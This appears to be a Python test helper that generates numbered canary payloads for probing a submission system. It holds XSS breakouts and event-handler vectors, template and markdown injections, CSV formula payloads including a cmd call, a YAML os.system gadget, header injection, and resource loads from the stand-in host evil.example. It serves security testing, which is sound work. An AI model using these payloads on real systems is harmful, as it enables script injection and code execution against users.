"""What an attacker might type into a hand-in: ways out of where text stands × what then runs.

In a payload `c(N)` calls its canary. Every payload is another string; none is another's prefix
with blanks.
"""

from collections.abc import Iterator

WAYS_OUT = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</pre>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</dd></dl>",
    "</td></table>",
    "</select>",
    "\n\n",
    "`",
    "}}",
    "\u2028",
)
RUNS = (
    "<script>c(N)</script>",
    "<svg onload=c(N)>",
    "<img src=x onerror=c(N)>",
    "<iframe srcdoc='<script>parent.c(N)</script>'></iframe>",
    "<a href=javascript:c(N)>k</a>",
    "<details open ontoggle=c(N)>k",
    "<input autofocus onfocus=c(N)>",
    "<body onload=c(N)>",
    "<video><source onerror=c(N)>",
    "<math href=javascript:c(N)>k</math>",
    "<form action=javascript:c(N)><button>k</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:c(N)'>",
    "<object data=javascript:c(N)></object>",
    "<style>@import'//evil.example/N';</style>",
    "<base href=//evil.example/N/>",
    "<link rel=stylesheet href=//evil.example/N>",
    "<div style=background:url(//evil.example/N)>k</div>",
    "<template><script>c(N)</script></template>",
)
OTHERS = (
    "[k](javascript:c(N))",
    "![k](//evil.example/N)",
    "<javascript:c(N)>",
    "{: onclick=c(N) }",
    "```{onclick=c(N)}\nk\n```",
    "{{ c(N) }}",
    "{% raw %}c(N)",
    "${c(N)}",
    "#{c(N)}",
    '=HYPERLINK("http://evil.example/N",c(N))',
    "=cmd|' /C calc'!A0 c(N)",
    "+c(N)",
    "-c(N)",
    "@SUM(c(N))",
    "\tc(N)",
    "END:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:c(N)",
    "k\r\nX-Evil: c(N)",
    "---\nstate: 已收录\nc(N): 1",
    "- name: evil\n  text: c(N)",
    "!!python/object/apply:os.system [c(N)]",
    "&a [*a, c(N)]",
    "#show: c(N)",
    '#eval("c(N)")',
    "$c(N)$",
    "\\u003cscript\\u003ec(N)",
    "&#60;script&#62;c(N)&#60;/script&#62;",
    "%3Cscript%3Ec(N)",
    "\\evil.example\\c(N)",
    "＜script＞c(N)",
    "c(N)//\u2029",
    "__proto__ c(N)",
    "*/c(N)/*",
    "';c(N)//",
    '";c(N)//',
)


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for way in WAYS_OUT:
        for run in RUNS:
            yield way + run
    yield from OTHERS


def armed(payload: str, number: int) -> str:
    """The payload with its own number."""
    return payload.replace("(N)", f"({number})").replace("/N", f"/{number}")
